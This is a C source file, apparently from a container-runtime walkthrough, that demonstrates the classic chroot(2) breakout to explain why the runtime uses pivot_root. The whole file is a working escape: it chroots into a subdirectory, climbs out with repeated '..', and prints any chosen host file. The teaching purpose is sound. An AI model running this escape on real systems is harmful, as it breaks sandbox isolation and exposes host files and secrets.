/* The classic chroot(2) breakout, for step 7 of the walkthrough: why mvrc uses pivot_root.
 *
 * chroot only changes where "/" resolves for this process; it does not move the working
 * directory. So a process with CAP_SYS_CHROOT (uid 0 in its own user namespace has it) can
 * chroot into a subdirectory, which leaves its working directory *outside* the new root,
 * where ".." is no longer stopped at "/" — and climb to the host's real root.
 * After pivot_root and a detached old root there is nothing above "/" to climb to.
 *
 * Usage: escape HOST_FILE   (prints HOST_FILE as seen after the breakout)
 * Built with `gcc -static` so it runs inside the busybox rootfs, which has no libc.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

/* More ".." than any real path is deep: extra ones stop at the real root. */
#define CLIMB 64

static int fail(const char *op, const char *path)
{
	fprintf(stderr, "escape: %s %s: %s\n", op, path, strerror(errno));
	return 1;
}

int main(int argc, char **argv)
{
	if (argc != 2) {
		fprintf(stderr, "usage: escape HOST_FILE\n");
		return 2;
	}

	if (mkdir("escape-dir", 0700) != 0 && errno != EEXIST)
		return fail("mkdir", "escape-dir");
	/* The working directory stays where it was: now outside our root. */
	if (chroot("escape-dir") != 0)
		return fail("chroot", "escape-dir");
	for (int i = 0; i < CLIMB; i++)
		if (chdir("..") != 0)
			return fail("chdir", "..");
	/* Wherever the climb ended becomes our root: the host's "/" under chroot. */
	if (chroot(".") != 0)
		return fail("chroot", ".");

	int fd = open(argv[1], O_RDONLY);
	if (fd < 0)
		return fail("open", argv[1]);
	printf("escape: reached %s:\n", argv[1]);
	fflush(stdout);
	char buf[4096];
	ssize_t n;
	while ((n = read(fd, buf, sizeof buf)) > 0)
		if (write(STDOUT_FILENO, buf, (size_t)n) != n)
			return fail("write", "stdout");
	close(fd);
	return n < 0 ? fail("read", argv[1]) : 0;
}
